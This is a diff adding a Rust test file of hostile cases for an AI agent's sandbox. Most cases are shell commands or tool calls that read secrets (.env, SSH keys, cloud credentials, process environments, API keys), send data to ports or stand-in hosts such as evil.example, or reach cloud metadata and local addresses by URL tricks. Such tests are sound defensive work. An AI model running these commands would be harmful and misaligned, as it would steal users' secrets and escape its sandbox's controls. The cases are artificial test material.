@@ -1,0 +1,147 @@
+//! What commands can read of secrets and processes, and where they can send it; hosts of `web_fetch`.
+
+use crate::hostile::case::{Case, Expected, Setup, call, command};
+
+/// A command that must not show a file which a rule hides.
+const fn hidden(input: &'static str) -> Case {
+    command(19, input).setup(Setup::Hidden)
+}
+
+/// A page that must not be fetched.
+const fn fetch(family: u8, input: &'static str) -> Case {
+    call(family, "web_fetch", input).setup(Setup::Hosts)
+}
+
+pub(crate) const CASES: &[Case] = &[
+    // H19: secrets of the workspace and of the user, and files that a rule hides.
+    command(19, "cat .env"),
+    command(19, "cat < .env; dd if=.env; head -c 99 .env"),
+    command(19, "cp .env x-@ID; cat x-@ID"),
+    command(19, "ln .env x-@ID; cat x-@ID"),
+    command(19, "mv .env x-@ID; cat x-@ID"),
+    command(19, "cat link-env"),
+    command(19, "tar cf - .env deploy.key"),
+    command(19, "git add -f .env deploy.key; git show :.env; git show :deploy.key"),
+    command(19, "git diff --no-index /dev/null .env"),
+    command(19, "git hash-object -w .env | xargs git cat-file -p"),
+    command(19, "cat .e*; cat ./sub/../.env; cat @WORK/.env"),
+    command(19, "cat /proc/self/root@WORK/.env; cat /proc/1/root@WORK/.env; cat /proc/$PPID/root@WORK/.env"),
+    command(19, "cat /proc/self/cwd/.env; cat /proc/1/cwd/.env"),
+    command(19, "exec 3<.env; cat <&3; cat /proc/self/fd/3"),
+    command(19, "for f in /proc/1/fd/* /proc/$PPID/fd/*; do timeout 1 head -c 999 $f; done"),
+    command(19, "find . -name '.env*' -exec cat {} +; grep -r SECRET . --include=.env"),
+    command(19, "chmod 777 .env; cat .env; rm -f .env; mv .env /tmp"),
+    command(19, "unshare -Urm sh -c 'umount .env; cat .env'"),
+    command(19, "umount .env; mount --bind one .env; cat .env"),
+    command(19, "cat deploy.key; openssl pkey -in deploy.key; base64 deploy.key | base64 -d"),
+    command(19, "cat ~/.ssh/id_ed25519; cat @USER/.ssh/*"),
+    command(19, "cat ~/.aws/credentials ~/.netrc ~/.config/gh/hosts.yml"),
+    command(19, "cat @DATA/sessions.db; ls @DATA; strings @DATA/*"),
+    command(19, "@BRIGADE sessions list; @BRIGADE sessions export last"),
+    command(19, "head -c 99999999 /dev/mem; head -c 99 /proc/kcore; head -c 99 /dev/kmem"),
+    hidden("cat src/private.txt"),
+    hidden("cp src/private.txt x-@ID; cat x-@ID; cat src/p*; cat ./src/../src/private.txt"),
+    hidden("cat /proc/self/root@WORK/src/private.txt; git diff --no-index /dev/null src/private.txt"),
+    hidden("mv src s-@ID; cat s-@ID/private.txt"),
+    hidden("echo pwned-@ID > src/main.rs; cat src/main.rs").expects(Expected::Says("fn main")),
+    call(19, "read_file", r#"{"path": "src/private.txt"}"#).setup(Setup::Hidden),
+    call(19, "read_file", r#"{"path": "src/../src/private.txt"}"#).setup(Setup::Hidden),
+    call(19, "read_file", r#"{"path": "./.env"}"#).setup(Setup::Hidden),
+    call(19, "read_file", r#"{"path": "link-env"}"#).setup(Setup::Hidden),
+    call(19, "grep", r#"{"pattern": "SECRET", "path": "src"}"#)
+        .setup(Setup::Hidden)
+        .expects(Expected::Contained),
+    call(19, "grep", r#"{"pattern": "SECRET", "path": ".env"}"#)
+        .setup(Setup::Hidden)
+        .expects(Expected::Contained),
+    call(19, "edit_file", r#"{"path": ".env", "old": "SECRET", "new": "x"}"#).setup(Setup::Hidden),
+    // H20: devices, pipes and huge files.
+    command(20, "cat /dev/zero | head -c 50000000"),
+    command(20, "yes"),
+    command(20, "cat sparse"),
+    command(20, "cat pipe"),
+    // H24: every way out. Nothing may arrive at the ports.
+    command(24, "ATTEMPT='udp @UDP' @PROBE"),
+    command(24, "ATTEMPT='tcp @TCP' @PROBE"),
+    command(24, "ATTEMPT='unix @SOCKET' @PROBE"),
+    command(24, "unshare -Un true; ATTEMPT='udp @UDP' @PROBE"),
+    command(24, "bash -c 'echo secret > /dev/udp/127.0.0.1/@UDP'"),
+    command(24, "bash -c 'echo secret > /dev/tcp/127.0.0.1/@TCP'"),
+    command(24, "curl -m 2 http://127.0.0.1:@TCP/?q=secret; curl -m 2 http://localhost:@TCP/"),
+    command(24, "curl -m 2 --unix-socket @SOCKET http://x/"),
+    command(24, "wget -T 2 -t 1 -O - http://127.0.0.1:@TCP/"),
+    command(24, "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", @TCP), 2)'"),
+    command(24, "python3 -c 'import socket; socket.socket(2, 2).sendto(b\"x\", (\"127.0.0.1\", @UDP))'"),
+    command(24, "python3 -c 'import socket; socket.socket(1, 1).connect(\"@SOCKET\")'"),
+    command(24, "perl -MIO::Socket -e 'IO::Socket::INET->new(\"127.0.0.1:@TCP\")'"),
+    command(24, "git ls-remote http://127.0.0.1:@TCP/x; git fetch git://127.0.0.1:@TCP/x"),
+    command(
+        24,
+        "ping -c 1 -W 1 127.0.0.1 > /dev/null; getent hosts secret.evil.example; nslookup -port=@UDP secret.evil.example 127.0.0.1",
+    ),
+    command(24, "http_proxy=http://127.0.0.1:@TCP curl -m 2 http://evil.example/"),
+    command(24, "echo $DOCKER_HOST; docker ps; curl -m 2 --unix-socket ${DOCKER_HOST#unix://} http://x/"),
+    command(24, "ln -s @SOCKET s-@ID; ATTEMPT=\"unix $PWD/s-@ID\" @PROBE"),
+    command(24, "ATTEMPT='unix /proc/1/root@SOCKET' @PROBE"),
+    // H26: keys in the environment of any process.
+    command(26, "env; set; export -p"),
+    command(26, "cat /proc/self/environ /proc/$PPID/environ /proc/1/environ | tr '\\0' '\\n'"),
+    command(26, "cat /proc/*/environ | tr '\\0' '\\n'"),
+    command(26, "cat /proc/@BAIT/environ; ls -l /proc/@BAIT/; cat /proc/@BAIT/cmdline"),
+    command(26, "echo $ANTHROPIC_API_KEY; printenv ANTHROPIC_API_KEY"),
+    command(26, "gdb -p @BAIT -batch; strace -p @BAIT -o x-@ID & sleep 0.2; cat x-@ID"),
+    command(26, "git var -l; git config -l --show-origin; ps auxeww"),
+    command(26, "echo $PLAIN").expects(Expected::Says("visible")),
+    // H21: hosts that look like others. The rules deny *.evil.example, blocked.example and one international name.
+    fetch(21, r#"{"url": "https://evil.example/"}"#),
+    fetch(21, r#"{"url": "https://docs.python.org.evil.example/"}"#),
+    fetch(21, r#"{"url": "https://EVIL.example./"}"#),
+    fetch(21, r#"{"url": "https://docs.python.org@evil.example/"}"#),
+    fetch(21, r#"{"url": "https://docs.python.org%2f@evil.example/"}"#),
+    fetch(21, r#"{"url": "https://user:pass@a.evil.example:443/"}"#),
+    fetch(21, r#"{"url": "https://evil%2eexample/"}"#),
+    fetch(21, r#"{"url": "https://evil。example/"}"#),
+    fetch(21, r#"{"url": "https://\uff45vil.example/"}"#),
+    fetch(21, r#"{"url": "https:\\\\evil.example\\"}"#),
+    fetch(21, r#"{"url": "https:///evil.example/"}"#),
+    fetch(21, r#"{"url": "hTTps://blocked.example:443/x?y#z"}"#),
+    fetch(21, r#"{"url": "https://b\u00fccher.example/"}"#),
+    fetch(21, r#"{"url": "https://xn--bcher-kva.example/"}"#),
+    // H22: characters that programs read differently.
+    fetch(22, r#"{"url": "https://evil.example\u0000.google.com/"}"#),
+    fetch(22, r#"{"url": "https://evil.example%00.google.com/"}"#),
+    fetch(22, r#"{"url": "https://evil.example\r\nHost: google.com/"}"#),
+    fetch(22, r#"{"url": "https://ev\til.exa\nmple/"}"#),
+    fetch(22, r#"{"url": "https://evil.example#@google.com/"}"#),
+    fetch(22, r#"{"url": "https://evil.example\\@google.com/"}"#),
+    fetch(22, r#"{"url": "http://127.0.0.1:80 /"}"#),
+    fetch(22, r#"{"url": "https://[evil.example]/"}"#),
+    // H23: addresses of this machine and of private networks.
+    fetch(23, r#"{"url": "http://127.0.0.1:@TCP/"}"#),
+    fetch(23, r#"{"url": "http://127.1/"}"#),
+    fetch(23, r#"{"url": "http://0x7f.1/"}"#),
+    fetch(23, r#"{"url": "http://2130706433/"}"#),
+    fetch(23, r#"{"url": "http://017700000001/"}"#),
+    fetch(23, r#"{"url": "http://0/"}"#),
+    fetch(23, r#"{"url": "http://0.0.0.0/"}"#),
+    fetch(23, r#"{"url": "http://localhost/"}"#),
+    fetch(23, r#"{"url": "http://localhost.:80/"}"#),
+    fetch(23, r#"{"url": "http://[::1]/"}"#),
+    fetch(23, r#"{"url": "http://[::]/"}"#),
+    fetch(23, r#"{"url": "http://[::ffff:127.0.0.1]/"}"#),
+    fetch(23, r#"{"url": "http://[::ffff:7f00:1]/"}"#),
+    fetch(23, r#"{"url": "http://[64:ff9b::7f00:1]/"}"#),
+    fetch(23, r#"{"url": "http://[2002:7f00:1::]/"}"#),
+    fetch(23, r#"{"url": "http://[fe80::1]/"}"#),
+    fetch(23, r#"{"url": "http://[fd00:ec2::254]/latest/meta-data/"}"#),
+    fetch(23, r#"{"url": "http://169.254.169.254/latest/meta-data/"}"#),
+    fetch(23, r#"{"url": "http://10.0.0.1/"}"#),
+    fetch(23, r#"{"url": "http://192.168.1.1/"}"#),
+    fetch(23, r#"{"url": "http://100.64.0.1/"}"#),
+    fetch(23, r#"{"url": "http://224.0.0.1/"}"#),
+    fetch(23, r#"{"url": "file:///etc/passwd"}"#),
+    fetch(23, r#"{"url": "gopher://127.0.0.1:@TCP/x"}"#),
+    fetch(23, r#"{"url": "ftp://127.0.0.1:@TCP/"}"#),
+    fetch(23, r#"{"url": "data:text/html,x"}"#),
+    fetch(23, r#"{"url": "javascript:alert(1)"}"#),
+];
